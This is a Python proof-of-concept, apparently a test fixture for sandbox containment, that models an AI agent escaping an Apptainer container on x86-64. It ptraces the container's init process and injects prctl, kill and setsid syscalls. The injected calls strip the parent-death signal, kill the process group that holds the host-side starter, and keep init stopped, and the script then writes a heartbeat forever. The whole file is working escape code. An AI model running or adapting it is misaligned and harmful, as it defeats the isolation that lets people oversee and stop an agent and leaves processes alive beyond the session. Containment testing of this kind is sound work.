"""An agent that tries to outlive its sandbox (x86-64).

It traces the container's init (same user, no capabilities needed), takes its parent-death signal away, lets it kill
its own process group, to which Apptainer's starter on the host belongs, and keeps it stopped, so that it never
notices that its child has ended. Then it shows that it lives by writing the time into a file.
"""
import ctypes
import os
import signal
import sys
import time

heartbeat = sys.argv[1]
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long] * 4
ATTACH, GETREGS, SETREGS, SINGLESTEP, WALL = 16, 12, 13, 9, 0x40000000
PRCTL, KILL, SETSID = 157, 62, 112


class Registers(ctypes.Structure):
    _fields_ = [
        (name, ctypes.c_uint64)
        for name in (
            "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss "
            "fs_base gs_base ds es fs gs"
        ).split()
    ]


def trace(request, address=0, data=0):
    if libc.ptrace(request, 1, address, data) < 0:
        raise OSError(ctypes.get_errno(), "ptrace %d" % request)


def syscall_instruction():
    for line in open("/proc/1/maps"):
        fields = line.split()
        if "x" in fields[1] and "starter" in line:
            low, high = (int(part, 16) for part in fields[0].split("-"))
            memory = open("/proc/1/mem", "rb")
            memory.seek(low)
            return low + memory.read(high - low).find(b"\x0f\x05")
    raise SystemExit("no text of the init was found")


def inject(saved, instruction, number, *arguments):
    registers = Registers()
    ctypes.memmove(ctypes.byref(registers), ctypes.byref(saved), ctypes.sizeof(registers))
    registers.rip, registers.rax, registers.orig_rax = instruction, number, 2**64 - 1
    for name, value in zip(("rdi", "rsi", "rdx"), arguments):
        setattr(registers, name, value % 2**64)
    trace(SETREGS, 0, ctypes.addressof(registers))
    trace(SINGLESTEP)
    os.waitpid(1, WALL)


if os.fork():
    os._exit(0)
os.setsid()
signal.signal(signal.SIGHUP, signal.SIG_IGN)
trace(ATTACH)
os.waitpid(1, WALL)
where = syscall_instruction()
saved = Registers()
trace(GETREGS, 0, ctypes.addressof(saved))
inject(saved, where, PRCTL, 1, 0)
inject(saved, where, KILL, 0, 9)
inject(saved, where, SETSID)
while True:
    with open(heartbeat, "w") as file:
        file.write(str(time.time()))
    time.sleep(0.1)
